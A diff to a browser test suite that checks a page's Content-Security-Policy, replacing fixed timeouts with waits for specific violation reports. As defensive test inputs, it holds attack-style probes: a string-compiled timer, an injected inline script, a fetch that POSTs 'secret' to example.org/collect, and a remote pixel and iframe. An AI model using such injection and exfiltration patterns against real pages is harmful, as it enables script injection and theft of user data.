@@ -97,43 +97,63 @@ describe('the empty library', () => {
 });
 
 describe('the Content-Security-Policy in a real browser', () => {
-  async function violationsWhile(action: () => Promise<unknown>): Promise<string[]> {
+  /** The directives the page reports as violated while `action` runs, once every one in `expected` is. */
+  async function violationsWhile(
+    action: () => Promise<unknown>,
+    expected: readonly string[],
+  ): Promise<string[]> {
     await page.evaluate(() => {
       const seen: string[] = [];
       (window as unknown as { __violations: string[] }).__violations = seen;
       document.addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective));
     });
     await action().catch(() => undefined);
-    await page.waitForTimeout(100);
+    // Violation reports arrive as events after the refused action: wait for the ones this test names.
+    await page.waitForFunction(
+      (directives) =>
+        directives.every((directive) =>
+          (window as unknown as { __violations: string[] }).__violations.includes(directive),
+        ),
+      expected,
+    );
     return page.evaluate(() => (window as unknown as { __violations: string[] }).__violations);
   }
 
   it('refuses to turn strings into code (no unsafe-eval)', async () => {
     // DevTools-driven evaluation is exempt from CSP, so let the page itself compile a string: a string
     // timer goes through the same eval check as eval() and new Function().
-    const violations = await violationsWhile(() =>
-      page.evaluate(
-        () =>
-          new Promise((resolve) => {
-            const global = window as unknown as { __evaluated: number };
-            global.__evaluated = 0;
-            const compileLater = setTimeout as unknown as (code: string) => void;
-            compileLater('window.__evaluated = 1');
-            setTimeout(() => resolve(global.__evaluated), 100);
-          }),
-      ),
+    const violations = await violationsWhile(
+      () =>
+        page.evaluate(
+          () =>
+            new Promise((resolve) => {
+              const global = window as unknown as { __evaluated: number };
+              global.__evaluated = 0;
+              const compileLater = setTimeout as unknown as (code: string) => void;
+              // Answers once the refusal is reported and the timer's turn has passed.
+              document.addEventListener(
+                'securitypolicyviolation',
+                () => setTimeout(() => resolve(global.__evaluated), 0),
+                { once: true },
+              );
+              compileLater('window.__evaluated = 1');
+            }),
+        ),
+      ['script-src'],
     );
     expect(violations).toContain('script-src');
     expect(await page.evaluate(() => (window as unknown as { __evaluated: number }).__evaluated)).toBe(0);
   });
 
   it('refuses inline script injected into the page', async () => {
-    const violations = await violationsWhile(() =>
-      page.evaluate(() => {
-        const script = document.createElement('script');
-        script.textContent = 'window.__injected = true';
-        document.body.append(script);
-      }),
+    const violations = await violationsWhile(
+      () =>
+        page.evaluate(() => {
+          const script = document.createElement('script');
+          script.textContent = 'window.__injected = true';
+          document.body.append(script);
+        }),
+      ['script-src-elem'],
     );
     expect(violations).toContain('script-src-elem');
     expect(
@@ -142,21 +162,24 @@ describe('the Content-Security-Policy in a real browser', () => {
   });
 
   it('refuses requests to any remote origin', async () => {
-    const violations = await violationsWhile(() =>
-      page.evaluate(() => fetch('https://example.org/collect', { method: 'POST', body: 'secret' })),
+    const violations = await violationsWhile(
+      () => page.evaluate(() => fetch('https://example.org/collect', { method: 'POST', body: 'secret' })),
+      ['connect-src'],
     );
     expect(violations).toContain('connect-src');
   });
 
   it('refuses remote images and frames', async () => {
-    const violations = await violationsWhile(() =>
-      page.evaluate(() => {
-        const image = document.createElement('img');
-        image.src = 'https://example.org/pixel.gif';
-        const frame = document.createElement('iframe');
-        frame.src = 'https://example.org/';
-        document.body.append(image, frame);
-      }),
+    const violations = await violationsWhile(
+      () =>
+        page.evaluate(() => {
+          const image = document.createElement('img');
+          image.src = 'https://example.org/pixel.gif';
+          const frame = document.createElement('iframe');
+          frame.src = 'https://example.org/';
+          document.body.append(image, frame);
+        }),
+      ['img-src', 'frame-src'],
     );
     expect(violations).toEqual(expect.arrayContaining(['img-src', 'frame-src']));
   });
